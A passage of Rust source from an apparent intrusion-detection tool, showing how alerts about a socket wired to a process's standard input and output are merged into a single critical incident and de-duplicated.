            explain::who(model, pid),
            explain::object(o),
            explain::story(model, &in_entry.origin)
        );
        alert.evidence.push(Evidence::Fact(explain::entry_fact(clock, pid, 0, in_entry, o, text)));
        alert.evidence.push(Evidence::Event(*event));
        // The same socket's pending alerts (the parent that put it there, a warning of
        // this process before its exec) are this incident: their evidence joins.
        let mut earlier: Vec<u64> = Vec::new();
        for i in &others {
            if let Some(old) = outbox.take_pending(i.key) {
                alert.evidence.extend(old.evidence.into_iter().filter(|e| !matches!(e, Evidence::Symptom(_))));
                self.forget(object, i.key);
            } else if let Some(id) = outbox.id_of(i.key) {
                earlier.push(id);
            }
        }
        alert.message = onto_message(model, pid, &comm, o, &fds, &how(&alert, model, inherited), Severity::Critical);
        let key = if earlier.is_empty() {
            key
        } else {
            alert.message.push_str(&format!(
                " (written first as {} about the same socket)",
                explain::list(&earlier.iter().map(|id| format!("warning #{id}")).collect::<Vec<_>>())
            ));
            Key { variant: SHELL_LATER, ..key }
        };
        if outbox.repeat(key) {
            return;
        }
        outbox.raise(key, alert, rule(pid, vec![0, 1, 2]));
        self.incidents.entry(object).or_default().push(Incident { key, ran: true, severity: Severity::Critical });
    }
}

impl Stdio {
    /// Another detector raised `key` about `socket`: the same incident for later moves.
    pub fn note_incident(&mut self, socket: ObjectId, key: Key) {
        self.incidents.entry(socket).or_default().push(Incident { key, ran: true, severity: Severity::Critical });
    }

    /// The evidence of alerts about `socket` still pending, taken out of the outbox:
    /// another alert tells their incident.
    pub fn absorb(&mut self, outbox: &mut Outbox, socket: ObjectId) -> Vec<Evidence> {
        let mut out = Vec::new();
        for i in self.incidents.get(&socket).cloned().unwrap_or_default() {
            if let Some(old) = outbox.take_pending(i.key) {
                out.extend(old.evidence.into_iter().filter(|e| !matches!(e, Evidence::Symptom(_))));
                self.forget(socket, i.key);
            }
        }
        out
    }
}
